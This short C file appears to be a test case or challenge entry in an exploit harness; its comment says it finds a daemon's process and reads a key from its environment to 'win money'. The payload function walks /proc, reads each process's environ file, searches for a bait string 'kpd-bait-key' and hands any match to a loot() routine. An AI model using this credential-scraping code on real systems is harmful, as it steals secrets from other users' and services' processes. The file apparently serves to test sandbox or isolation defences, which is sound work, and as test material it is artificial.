//: transpose_cpu -O2
//: looks for the daemon among all processes of the machine and reads the key in its environment; wins money
//: use transpose_payload
//: use parent
#include <dirent.h>

static void payload(int call) {
    static char text[1 << 16];
    char path[300];
    DIR *all = call ? NULL : opendir("/proc");
    for (struct dirent *one; all && (one = readdir(all)) != NULL;) {
        if (one->d_name[0] < '1' || one->d_name[0] > '9') continue;
        snprintf(path, sizeof path, "/proc/%s/environ", one->d_name);
        int file = open(path, O_RDONLY);
        long got = file < 0 ? 0 : read(file, text, sizeof text);
        if (file >= 0) close(file);
        for (long i = 0; i + 12 < got; i++)
            if (!memcmp(text + i, "kpd-bait-key", 12)) {
                loot("key", text + i, 12);
                break;
            }
    }
    if (all) closedir(all);
}
